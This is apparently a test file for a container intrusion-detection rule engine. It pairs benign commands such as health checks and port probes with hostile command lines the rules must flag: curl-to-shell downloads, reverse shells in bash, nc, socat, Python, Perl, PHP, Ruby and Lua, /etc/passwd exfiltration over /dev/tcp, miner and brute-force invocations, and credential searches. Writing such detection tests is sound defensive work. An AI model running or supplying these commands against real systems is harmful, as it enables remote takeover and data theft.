/** What ordinary programs do is told by none of the shipped rules, and what looks much like it is. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import {
  CALL,
  CONNECT,
  type ContainerFacts,
  EVENT_NAMES,
  EXE_FLAG,
  HEADER,
  KernelEvent,
  type LivingFacts,
  OPEN,
  PathNames,
  type ProcessFacts,
  RECORD,
  unknownProcess,
} from '../events/index.ts';
import { RuleEngine } from './engine.ts';
import { readShippedRules } from './shipped-rules.ts';

const CONTAINER: ContainerFacts = {
  ...{ id: 'c'.repeat(64), name: 'web', project: 'p', environment: 'e', workload: 'web', pod: 'web' },
  ...{ container: 'web', image: 'registry/p/web:1', digest: null },
};
const SECOND = 1e9;
const engine = RuleEngine.load(readShippedRules());
const OVER_TIME = new Set([
  'Download handed to a shell',
  'Named pipe joined with a network program',
  'Network scanned from a container',
  'Ports of a host scanned from a container',
  'Surroundings explored in a container',
]);

/** A line as people write it: the first word names the program's file, quotes hold words together. */
function program(line: string, more: Partial<ProcessFacts> = {}): ProcessFacts {
  const words = [...line.matchAll(/"((?:[^"\\]|\\.)*)"|(\S+)/gs)].map(([, quoted, bare]) =>
    quoted === undefined ? (bare ?? '') : quoted.replaceAll('\\"', '"'),
  );
  const [file = '', ...args] = words;
  const name = file.slice(file.lastIndexOf('/') + 1);
  const exePath = file.startsWith('/') ? file : `/usr/bin/${file}`;
  return { ...unknownProcess(70, 100 * SECOND, name), exe: file, exePath, args, innerPid: 7, ...more };
}

interface Around {
  readonly line?: readonly ProcessFacts[];
  readonly atSecond?: number;
  readonly living?: Partial<LivingFacts>;
  readonly write?: (bytes: Buffer) => void;
}

/** The rules that hold for what the program does; its own start where nothing else is said. */
function held(process: ProcessFacts, type: number = RECORD.exec, around: Around = {}): string[] {
  const memory = new ArrayBuffer(2_048);
  const bytes = Buffer.from(memory);
  bytes.writeUInt16LE(type, 0);
  bytes.writeBigUInt64LE(BigInt(around.atSecond ?? 1_000) * BigInt(SECOND), HEADER.time);
  bytes.writeUInt32LE(process.innerPid, HEADER.inner_pid);
  around.write?.(bytes);
  const line = [process, ...(around.line ?? [])];
  const surroundings = {
    parentOf: (one: ProcessFacts) => line[line.indexOf(one) + 1],
    ...{ processOf: () => undefined, userName: () => null, groupName: () => null },
    ask: () => (around.living ?? null) as LivingFacts | null,
    ...{ wallOffsetNs: 1.7e18, bootOffsetNs: 0 },
  };
  const event = new KernelEvent(memory, surroundings, new PathNames());
  event.load(0);
  event.process = process;
  event.container = CONTAINER;
  return (engine.match(event) ?? []).map((one) => engine.ruleName(type, one) ?? '');
}

/** The same without rules over time, which hold only after many events. */
function told(process: ProcessFacts, type: number = RECORD.exec, around: Around = {}): string[] {
  return held(process, type, around).filter((name) => !OVER_TIME.has(name));
}

const shell = (script: string): ProcessFacts => ({ ...program('/bin/sh'), args: ['-c', script] });

test('health checks and scripts that look at what they fetched are no download that is run', () => {
  const ordinary = [
    'curl --silent --fail localhost:9200/_cluster/health || exit 1',
    'test "$(curl -s -o /dev/null -w %{http_code} http://localhost/)" = 200',
    'STATUS=$(curl -s localhost:8080/status); [ "$STATUS" = ok ]',
    'curl -s localhost:9200/_cat/shards | grep -v UNASSIGNED',
    'until curl -s https://es01:9200 | grep -q "missing credentials"; do sleep 30; done',
    'curl -fsS http://localhost/ping || sh /recover.sh',
    'wget -qO- http://localhost/metrics | grep finish_total',
    'curl -s localhost:8500/v1/status/leader | python3 -m json.tool',
    'curl -s localhost/x | python -c "import json,sys; print(json.load(sys.stdin))"',
    'curl -s http://hash.example/x | sha256sum -c',
    'echo "$(curl -s localhost/version)" > /tmp/version',
    'if [ $(curl -s localhost/n) -gt 3 ]; then exit 1; fi',
  ];
  for (const script of ordinary) assert.deepEqual(told(shell(script)), [], script);
  const runs = [
    'curl http://192.0.2.1/x | sh',
    'curl -sSL https://get.example.com|bash -s -- --yes',
    'wget -qO- http://192.0.2.1/x | sudo bash',
    'curl http://192.0.2.1/x | tee /tmp/x | /bin/sh',
    'wget -O - http://192.0.2.1/x |busybox sh',
    'curl -s http://192.0.2.1/x | python3',
    'curl -s http://192.0.2.1/x | python3 -',
    'curl -s http://192.0.2.1/x | perl; true',
    'bash <(curl -s http://192.0.2.1/x)',
    'eval "$(curl -s http://192.0.2.1/x)"',
    'source <(curl -s http://192.0.2.1/x)',
    'true; sh -c "$(wget -qO- http://192.0.2.1/x)"',
    '$(curl -s http://192.0.2.1/x)',
    'cd /tmp; `curl -s http://192.0.2.1/x`',
    'curl -o /tmp/x http://192.0.2.1/x && chmod +x /tmp/x && /tmp/x',
    ': "curl http://192.0.2.1/x | sh"',
  ];
  for (const script of runs) assert.deepEqual(told(shell(script)), ['Download run at once'], script);
});

test('questions about packages are no installation', () => {
  const RULE = 'Package manager run in a container';
  const asked = [
    'apk manifest nginx',
    'apk info -e curl',
    'dpkg -l',
    'dpkg --print-architecture',
    'dpkg-query --show nginx',
    'rpm -q glibc',
    'rpm -qa',
    'apt list --installed',
    'npm start',
    'npm run build',
    'yarn start',
    'bundle exec puma',
    'pip list',
    'npm run serve --prefix /opt/installation',
  ];
  for (const line of asked) assert.deepEqual(told(program(line)), [], line);
  const changed = [
    'apt install curl',
    'apt-get -y install curl',
    'apt',
    'apk add curl',
    'apk --no-cache add curl',
    'dpkg -i /tmp/x.deb',
    'rpm -i x.rpm',
    'rpm -qa --pipe id',
    'rpm --eval %(id)',
    'npm install left-pad',
    'npm i left-pad',
    'npm ci',
    'yarn add left-pad',
    'pip install x',
    'npm node /usr/bin/npm install',
  ];
  for (const line of changed) assert.deepEqual(told(program(line)), [RULE], line);
});

test('servers that have the name of an attack tool are none', () => {
  const RULE = 'Attack tool started in a container';
  for (const line of [
    'hydra serve all --dev',
    'hydra migrate sql -e --yes',
    'medusa node /app/node_modules/.bin/medusa start',
    'medusa develop',
    'cdk deploy --all',
    'cdk node /usr/bin/cdk synth',
  ])
    assert.deepEqual(told(program(line)), [], line);
  for (const line of [
    'hydra -l root -P words ssh://192.0.2.1',
    'medusa -h 192.0.2.1 -u root -P words -M ssh',
    'cdk evaluate --full',
    'cdk run shim-pwn',
    'nmap 192.0.2.1',
  ])
    assert.deepEqual(told(program(line)), [RULE], line);
});

test('what PostgreSQL and MariaDB start of their own is no shell of an attack, and what a client has them start is', () => {
  const RULE = 'Shell started by a server';
  const server = program('/usr/lib/postgresql/15/bin/postgres -D /data', { pid: 60, startedNs: 50 * SECOND });
  const by = (commandLine: string): string[] =>
    told(shell('test ! -f /wal/1 && cp pg_wal/1 /wal/1'), RECORD.exec, { line: [server], living: { commandLine } });
  for (const title of [
    'postgres: archiver archiving 000000010000000000000001',
    'postgres: archiver last was 000000010000000000000001',
    'postgres: archiver failed on 000000010000000000000001.partial',
    'postgres: 15/main: archiver ',
    'postgres: startup recovering 000000010000000000000001',
    'postgres: checkpointer ',
  ])
    assert.deepEqual(by(title), [], title);
  for (const title of [
    'postgres: app shop 10.89.0.4(41234) COPY',
    'postgres: archiver last [local] COPY',
    'postgres: archiver archiving 10.0.0.1(5) COPY',
    '/usr/lib/postgresql/15/bin/postgres -D /data',
    '',
  ])
    assert.deepEqual(by(title), [RULE], title);
  assert.deepEqual(told(shell('id'), RECORD.exec, { line: [server] }), [RULE], 'nobody knows what it is');
  const making = program('/usr/lib/postgresql/15/bin/postgres --single -F -O template1', { pid: 60 });
  assert.deepEqual(told(shell('locale -a'), RECORD.exec, { line: [making] }), []);

  const mariadb = program('/usr/sbin/mariadbd', { pid: 60, startedNs: 50 * SECOND });
  const starts = (script: string): string[] => told(shell(script), RECORD.exec, { line: [mariadb] });
  assert.deepEqual(starts("wsrep_sst_rsync --role 'joiner' --address '10.0.0.1' --datadir '/var/lib/mysql/'"), []);
  assert.deepEqual(starts("wsrep_sst_rsync --role 'x'; id"), [RULE]);
  assert.deepEqual(starts('wsrep_sst_rsync $(id)'), [RULE]);
  assert.deepEqual(starts('id'), [RULE]);
});

test('what an image does when its container starts is told of who comes later, or by another way', () => {
  const conmon = program('/usr/bin/conmon', { pid: 50, innerPid: 50, startedNs: 90 * SECOND });
  const first = program('/bin/sh /entrypoint', { pid: 60, innerPid: 1, startedNs: 995 * SECOND });
  const write = (path: string) => (bytes: Buffer) => writeOpen(bytes, path, 1);
  const opened = (process: ProcessFacts, line: readonly ProcessFacts[], atSecond: number): string[] =>
    told(process, RECORD.openat, { line, atSecond, write: write('/etc/passwd') });
  const usermod = program('/usr/bin/sed -i x /etc/passwd');
  const RULE = 'Accounts of a container changed';
  assert.deepEqual(opened(usermod, [first, conmon], 1_000), []);
  assert.deepEqual(opened(usermod, [first, conmon], 1_030), [RULE], 'half a minute later');
  assert.deepEqual(opened(usermod, [program('/bin/sh', { pid: 61 }), conmon], 1_000), [RULE], 'a session');
  assert.deepEqual(opened({ ...usermod, exeFlags: EXE_FLAG.upperLayer }, [first, conmon], 1_000), [RULE]);
  const own = program('/bin/sh', { pid: 66, innerPid: 1, startedNs: 999 * SECOND });
  const session = program('/bin/sh', { pid: 65, innerPid: 9, startedNs: 998 * SECOND });
  assert.deepEqual(opened(usermod, [own, session, conmon], 1_000), [RULE], 'a namespace of its own');
  assert.deepEqual(opened(usermod, [first], 1_000), [RULE], 'nobody knows who started it');
  assert.deepEqual(opened(usermod, [first, unknownProcess(50, 0, 'conmon')], 1_000), [RULE]);
});

test('a terminal that the container has from its start is no session', () => {
  const RULE = 'Terminal opened in a container';
  const opens = (innerPid: number, above: ProcessFacts): string[] =>
    told(program('/bin/sh'), RECORD.exec, {
      line: [above],
      write: (bytes) => {
        bytes.writeUInt32LE(0x8800, HEADER.tty);
        bytes.writeUInt32LE(70, HEADER.session);
        bytes.writeUInt32LE(above.pid, HEADER.ppid);
        bytes.writeUInt32LE(innerPid, HEADER.inner_pid);
      },
    });
  const monitor = program('/usr/bin/conmon', { pid: 50, innerPid: 50 });
  assert.deepEqual(opens(1, monitor), []);
  assert.deepEqual(opens(7, monitor), [RULE]);
  assert.deepEqual(opens(1, program('/usr/bin/unshare', { pid: 60, innerPid: 9 })), [RULE], 'a namespace of its own');
  assert.deepEqual(opens(1, unknownProcess(50, 0, 'x')), [RULE], 'nobody knows who started it');
});

test('a program that only has another owner is the image’s', () => {
  const RULE = 'Program not in the image executed';
  const moved = program('/app/server', { exeFlags: EXE_FLAG.upperLayer });
  assert.deepEqual(told(moved, RECORD.exec, { living: { isOfImage: () => true } }), []);
  assert.deepEqual(told(moved, RECORD.exec, { living: { isOfImage: () => false } }), [RULE]);
  assert.deepEqual(told(moved), [RULE], 'a recording does not say it');
});

test('the bit of a folder gives nobody rights; that of a file does', () => {
  const RULE = 'Setuid or setgid bit set in a container';
  const CHMOD = EVENT_NAMES.indexOf('chmod');
  const change = (mode: number, kind: number): string[] =>
    told(program('/bin/chmod'), CHMOD, {
      write: (bytes) => {
        bytes.writeBigUInt64LE(BigInt(mode), CALL.arguments + 8);
        bytes.writeUInt32LE(kind, CALL.mode);
      },
    });
  assert.deepEqual(change(0o3775, 0o040_755), []);
  assert.deepEqual(change(0o2755, 0o100_755), [RULE]);
  assert.deepEqual(change(0o4755, 0o100_755), [RULE]);
  assert.deepEqual(change(0o2755, 0), [RULE], 'nobody knows of what');
});

test('a socket that waits is no terminal, one that is connected is, also when it is connected afterwards', () => {
  const RULE = 'Network connection became the terminal of a program';
  const DUP2 = EVENT_NAMES.indexOf('dup2');
  const dup = (local: number, remote: number, file = '/usr/sbin/php-fpm8.2'): string[] =>
    told(program(file), DUP2, {
      write: (bytes) => {
        bytes.writeUInt16LE(2, CALL.family);
        bytes.writeUInt16LE(1, CALL.is_socket);
        bytes.writeUInt16LE(6, CALL.protocol);
        bytes.writeUInt16LE(local, CALL.local_port);
        bytes.writeUInt16LE(remote, CALL.remote_port);
      },
    });
  assert.deepEqual(dup(9_000, 0), []);
  assert.deepEqual(dup(9_000, 41_000), [RULE]);
  assert.deepEqual(dup(0, 0), [RULE], 'one that is nothing yet');
  for (const server of ['/usr/sbin/sshd', '/usr/sbin/vsftpd']) {
    assert.deepEqual(dup(22, 41_000, server), [], server);
    assert.deepEqual(dup(41_000, 22, server), [RULE], server);
  }
  const connect = (descriptor: number, protocol = 6): string[] =>
    told(program('/usr/bin/perl'), RECORD.connect, {
      write: (bytes) => {
        bytes.writeInt32LE(descriptor, CONNECT.descriptor);
        bytes.writeUInt16LE(2, CONNECT.family);
        bytes.writeUInt16LE(protocol, CONNECT.protocol);
        bytes.writeUInt16LE(4_444, CONNECT.remote_port);
        bytes.writeUInt8(192, CONNECT.remote);
      },
    });
  assert.deepEqual(connect(5), []);
  assert.deepEqual(connect(0), [RULE]);
  assert.deepEqual(connect(0, 17), []);
});

test('a public key is no credential', () => {
  const RULE = 'Credentials read by a foreign program';
  const read = (path: string): string[] =>
    told(program('/bin/cat'), RECORD.openat, { write: (bytes) => writeOpen(bytes, path, 0) });
  assert.deepEqual(read('/root/.ssh/id_ed25519.pub'), []);
  assert.deepEqual(read('/root/.ssh/id_ed25519'), [RULE]);
});

/** The path as the kernel's part writes it, its parts the other way round; opened to read (0) or to write (1). */
function writeOpen(bytes: Buffer, path: string, access: 0 | 1): void {
  const reversed = `${path.slice(1).split('/').reverse().join('\0')}\0`;
  bytes.writeInt32LE(5, OPEN.result);
  bytes.writeUInt32LE(access, OPEN.open_flags);
  bytes.writeUInt32LE(Buffer.byteLength(reversed), OPEN.path_length);
  bytes.write(reversed, OPEN.bytes, 'latin1');
}

/** The rules that hold for a program whose last words are one text, as shells and interpreters are given it. */
const given = (words: readonly string[], more: Partial<ProcessFacts> = {}): string[] =>
  told({ ...program(words[0] ?? ''), args: words.slice(1), ...more });

test('shells that are turned over to the network are told in any language, and checks of ports and of health are not', () => {
  const RULE = 'Shell turned over to the network';
  const turned: readonly (readonly string[])[] = [
    ['bash', '-c', 'bash -i >& /dev/tcp/192.0.2.1/9 0>&1'],
    ['bash', '-c', 'sh -i >& /dev/udp/127.0.0.1/9 0>&1'],
    ['bash', '-c', '0<&196;exec 196<>/dev/tcp/192.0.2.1/9; sh <&196 >&196 2>&196'],
    ['bash', '-c', '/bin/bash -l > /dev/tcp/192.0.2.1/9 0<&1 2>&1'],
    ['bash', '-c', 'exec 5<>/dev/tcp/192.0.2.1/9; cat <&5 | while read line; do $line 2>&5 >&5; done'],
    ['bash', '-c', 'cat /etc/passwd > /dev/tcp/192.0.2.1/9'],
    ['bash', '-c', 'tar cz /etc | base64 > /dev/tcp/192.0.2.1/9'],
    ['bash', '-c', 'cat /etc/passwd > /dev/tcp/127.0.0.1.example.org/9'],
    ['bash', '-c', 'exec 5<>/dev/tcp/localhost.example.org/9; while read x <&5; do $x >&5; done'],
    ['bash', '-c', ': </dev/tcp/localhost/80; cat /etc/passwd > /dev/tcp/192.0.2.1/9'],
    ['zsh', '-c', 'zmodload zsh/net/tcp && ztcp 192.0.2.1 9 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'],
    ['sh', '-c', 'rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 9 >/tmp/f'],
    ['sh', '-c', 'mknod /tmp/b p; telnet 192.0.2.1 9 0</tmp/b | sh 1>/tmp/b'],
    ['sh', '-c', 'mkfifo /tmp/s; sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.1:9 > /tmp/s'],
    ...['-e /bin/sh 192.0.2.1 9', '192.0.2.1 9 -e sh', '-lvpe 9 /bin/sh', '--sh-exec sh h 9', '--exec /bin/sh h 9'].map(
      (words) => ['ncat', ...words.split(' ')],
    ),
    ['busybox', 'nc', '192.0.2.1', '9', '-e', '/bin/sh'],
    ['socat', 'tcp-connect:192.0.2.1:9', 'exec:"bash -li",pty'],
    ['socat', 'TCP:192.0.2.1:9', 'SYSTEM:sh'],
    ['gawk', 'BEGIN{s="/inet/tcp/0/192.0.2.1/9";while((s|&getline c)>0)while((c|&getline)>0)print|&s}'],
    ['python3', '-c', 'import socket,subprocess,os;s=socket.socket();os.dup2(s.fileno(),0);subprocess.call(["sh"])'],
    ['python3', '-c', 'import pty,socket;s=socket.socket();pty.spawn("sh")'],
    ['perl', '-e', 'use Socket;socket(S,2,1,6);open(STDIN,">&S");exec("/bin/sh -i");'],
    ['perl', '-MIO::Socket', '-e', '$c=new IO::Socket::INET(PeerAddr,"h:9");system$_ while<>;'],
    ['php', '-r', '$s=fsockopen("192.0.2.1",9);exec("sh <&3 >&3 2>&3");'],
    ['ruby', '-rsocket', '-e', 'f=TCPSocket.open("h",9).to_i;exec sprintf("sh -i <&%d",f)'],
    ['node', '-e', 'var n=require("net"),s=require("child_process").spawn("sh",[])'],
    ['lua5.4', '-e', "t=require('socket').tcp();t:connect('h','9');os.execute('sh -i')"],
  ];
  for (const words of turned) assert.ok(given(words).includes(RULE), words.join(' '));
  const ordinary: readonly (readonly string[])[] = [
    ['bash', '-c', '</dev/tcp/db/5432'],
    ['bash', '-c', ':> /dev/tcp/127.0.0.1/8080'],
    ['bash', '-c', '(echo -n > /dev/tcp/db/5432) >/dev/null 2>&1'],
    ['bash', '-c', 'cat < /dev/null > /dev/tcp/db/5432'],
    ['bash', '-c', 'until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done; exec /app/server'],
    ['bash', '-c', 'timeout 1 bash -c "</dev/tcp/db/5432" || exit 1'],
    [
      'bash',
      '-c',
      `exec 3<>/dev/tcp/127.0.0.1/9000;echo -e 'GET /health/ready HTTP/1.1\\r\\n\\r\\n' >&3;cat <&3 | grep 200`,
    ],
    ['bash', '-c', `{ printf >&3 'GET /health HTTP/1.0\\r\\n\\r\\n'; cat <&3; } 3<>/dev/tcp/localhost/9000 | grep 200`],
    ['nc', '-z', '-w1', 'my-cache-e', '6379'],
    ['nc', '-zv', 'redis-cache', '6379'],
    ['nc', '-w', '1', 'db', '5432'],
    ['busybox', 'nc', '-z', 'db', '5432'],
    ['socat', '-u', '/dev/null', 'TCP:db:5432'],
    ['python3', '-c', 'import socket; socket.create_connection(("db", 5432))'],
    ['python3', '-c', 'import urllib.request; urllib.request.urlopen("http://localhost/health")'],
    ['node', '-e', 'require("http").get("http://localhost/health", r => process.exit(r.statusCode !== 200))'],
    ['php', '-r', 'exit(@fsockopen("db", 3306) ? 0 : 1);'],
    ['perl', '-MIO::Socket', '-e', 'exit !IO::Socket::INET->new("db:5432")'],
    [
      'bash',
      '-c',
      'exec 3<>/dev/tcp/$HOSTNAME/80; exec 4<>/dev/tcp/localhost/81; cat <&3 >/dev/null; cat </tmp/dev/x <&4',
    ],
    ['python3', '-c', 'import socket; from app import execute_from_line; execute_from_line(socket.gethostname())'],
    ['node', '-p', 'process.execPath + require("net").isIP("192.0.2.1")'],
    ['ruby', '-e', 'require "socket"; TCPSocket.new("db", 5432); puts "executed"'],
  ];
  for (const words of ordinary) assert.deepEqual(given(words), [], words.join(' '));
});

test('a shell without a terminal that is given nothing to do is told, scripts and their like are not', () => {
  const RULE = 'Shell without a terminal waits for orders';
  const node = program('/usr/bin/node', { pid: 50 });
  const below = (words: readonly string[], parent = node): string[] =>
    told({ ...program(words[0] ?? ''), args: words.slice(1) }, RECORD.exec, { line: [parent] });
  for (const words of [['/bin/sh', '-i'], ['bash', '-li'], ['bash', '-l', '-i'], ['/bin/sh']])
    assert.ok(below(words).includes(RULE), words.join(' '));
  for (const options of [
    '--norc -i',
    '--noprofile --norc -i',
    '-i --norc',
    '--rcfile /x -i',
    '+h -i',
    '-o vi -i',
    '-O extglob -i',
    '-Bi',
  ])
    assert.ok(below(['bash', ...options.split(' ')]).includes(RULE), options);
  assert.ok(below(['/bin/sh'], program('/usr/bin/python3.11', { pid: 50 })).includes(RULE));
  const orders = [['-c', 'true'], ['-e', '/app/run'], ['-s'], ['/app/run'], ['-ic', 'node x'], ['-l', '-c', 'env']];
  for (const words of orders) assert.deepEqual(below(['bash', ...words]), [], words.join(' '));
  assert.deepEqual(below(['/bin/sh'], program('/bin/bash', { pid: 50 })), [], 'of a shell, as in `echo x | sh`');
});

test('miners are known by what they are told, whatever they are called', () => {
  const RULE = 'Crypto miner started';
  for (const line of [
    '/tmp/kworker -o pool.supportxmr.com:3333 -u 48abc -p x',
    '/tmp/x --url stratum2+tcp://h:1',
    '/tmp/x -o stratum+tcps://h:1',
    '/tmp/x -P stratum1+ssl://0xabc@h:9433',
    '/tmp/x -a rx/0 -o h:1',
    '/tmp/x --algo ETHASH --pool eth.2miners.com:2020',
    '/tmp/x --coin=monero --threads=4',
    '/tmp/x --randomx-1gb-pages',
    '/usr/bin/xmrig-notls',
    '/usr/bin/lolMiner',
    '/tmp/kdevtmpfsi',
  ])
    assert.ok(told(program(line)).includes(RULE), line);
  for (const line of [
    '/usr/bin/curl https://nanopool.org/',
    '/opt/app/server --algo fast --coin-file /data/coins.json',
    '/usr/bin/gzip -a file',
    '/opt/stratum/server --config /etc/stratum.yaml',
    '/usr/bin/openssl enc -a -in x',
  ])
    assert.deepEqual(told(program(line)), [], line);
});

test('packages that an interpreter installs, downloads on its line, and searches for keys are told', () => {
  const cases: readonly (readonly [rule: string, words: readonly string[]])[] = [
    ['Package manager run in a container', ['python3', '-m', 'pip', 'install', 'x']],
    ['Package manager run in a container', ['python3', '/usr/bin/pip3', 'install', '--no-index', 'x']],
    ['Package manager run in a container', ['pip3.11', 'install', 'x']],
    ['Package manager run in a container', ['node', '/usr/lib/node_modules/npm/bin/npm-cli.js', 'install', 'x']],
    ['Package manager run in a container', ['go', 'install', 'example.com/x@latest']],
    [
      'Download run at once',
      ['python3', '-c', 'import urllib.request;exec(urllib.request.urlopen("http://h/x").read())'],
    ],
    ['Download run at once', ['perl', '-MLWP::Simple', '-e', 'eval get("http://h/x")']],
    ['Download run at once', ['sh', '-c', 'curl -s http://h/x -o /tmp/x; sh /tmp/x']],
    ['Attack tool started in a container', ['bash', '/tmp/linpeas.sh', '-a']],
    ['Attack tool started in a container', ['python3', '/opt/sqlmap.py', '-u', 'http://h']],
    ['Keys or passwords searched for', ['find', '/', '-name', 'id_rsa']],
    ['Keys or passwords searched for', ['find', '/', '-iname', '*.pem']],
    ['Keys or passwords searched for', ['grep', '-r', 'BEGIN RSA PRIVATE', '/etc']],
    ['Keys or passwords searched for', ['grep', '-rni', 'password', '/']],
    ['Program started through its loader', ['/lib64/ld-linux-x86-64.so.2', '/tmp/x']],
  ];
  for (const [rule, words] of cases) assert.ok(given(words).includes(rule), words.join(' '));
  const ordinary: readonly (readonly string[])[] = [
    ['python3', '-m', 'pip', 'list'],
    ['python3', '-m', 'http.server'],
    ['python3', '/app/install.py', 'add'],
    ['node', '/app/server.js', 'install'],
    ['go', 'version'],
    ['sh', '-c', 'curl -s http://h/x -o /data/x.json; python3 /app/process.py /data/x.json'],
    ['python3', '-c', 'import urllib.request; print(urllib.request.urlopen("http://localhost/").status)'],
    ['find', '/var/log', '-name', '*.log', '-delete'],
    ['find', '/etc/ssl', '-name', '*.pem'],
    ['grep', '-r', 'password_file', '/etc/nginx'],
    ['grep', 'token', '/app/config.yaml'],
    ['bash', '/usr/local/bin/docker-entrypoint.sh', 'nginx'],
    ['/lib64/ld-linux-x86-64.so.2', '--verify', '/bin/ls'],
  ];
  for (const words of ordinary) assert.deepEqual(given(words), [], words.join(' '));
  assert.deepEqual(
    told({ ...program('/lib64/ld-linux-x86-64.so.2'), args: ['/bin/ls'] }, RECORD.exec, {
      line: [program('/usr/bin/ldd', { pid: 50 })],
    }),
    [],
    'ldd asks what a program loads',
  );
});

test('below what starts an application with the packages of its language each act is told; a system’s packages are its own', () => {
  const below = (parent: string, path: string): string[] =>
    told(program('/bin/sh'), RECORD.openat, {
      line: [program(parent, { pid: 50 })],
      write: (bytes) => writeOpen(bytes, path, 1),
    });
  for (const parent of ['npm start', 'yarn start', 'bundle exec puma', 'uv run app', 'poetry run app']) {
    assert.deepEqual(below(parent, '/root/.ssh/authorized_keys'), ['Start-up file changed in a container'], parent);
    assert.deepEqual(below(parent, '/etc/passwd'), ['Accounts of a container changed'], parent);
  }
  assert.deepEqual(below('apt-get install x', '/etc/passwd'), []);
  const adds = (parent: string): string[] =>
    told(program('apk add curl'), RECORD.exec, { line: [program(parent, { pid: 50 })] });
  assert.deepEqual(adds('npm start'), ['Package manager run in a container']);
  assert.deepEqual(adds('apk add x'), []);
});

test('another name changes nothing: of a loader, of a shell, of a file of /proc', () => {
  const linked = (line: string, exePath: string): string[] => told(program(line, { exePath }));
  for (const file of ['/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2', '/lib/ld-2.31.so', '/usr/lib/libc.so'])
    assert.deepEqual(linked('/tmp/ls /tmp/x', file), ['Program started through its loader'], file);
  assert.deepEqual(linked('/tmp/apt list', '/usr/bin/bash'), ['Package manager run in a container']);
  assert.deepEqual(told(program('/usr/bin/ldapsearch -x')), []);
  const reads = (path: string): string[] =>
    told(program('/bin/cat'), RECORD.openat, { write: (bytes) => writeOpen(bytes, path, 0) });
  // Its own number is 7, whichever way it was named: /proc/self/../1/environ is that of the first process.
  assert.deepEqual(reads('/proc/7/environ'), []);
  assert.deepEqual(reads('/proc/7/task/9/environ'), []);
  assert.deepEqual(reads('/proc/self/environ'), [], 'as a recording of another tool has it');
  assert.deepEqual(reads('/proc/1/environ'), ['Environment of another process read']);
  assert.deepEqual(reads('/proc/70/environ'), ['Environment of another process read']);
});

test('a program that carries what a pipe gives is one of the pair, a question for a port is none', () => {
  const RULE = 'Named pipe joined with a network program';
  for (const line of ['nc 192.0.2.1 9', 'busybox nc 192.0.2.1 9', 'telnet -lz 192.0.2.1 9', 'busybox mknod /tmp/x p'])
    assert.ok(held(program(line)).includes(RULE), line);
  for (const line of ['nc -zv db 5432', 'nc -z -w1 db 5432', 'busybox nc -z db 5432'])
    assert.ok(!held(program(line)).includes(RULE), line);
});
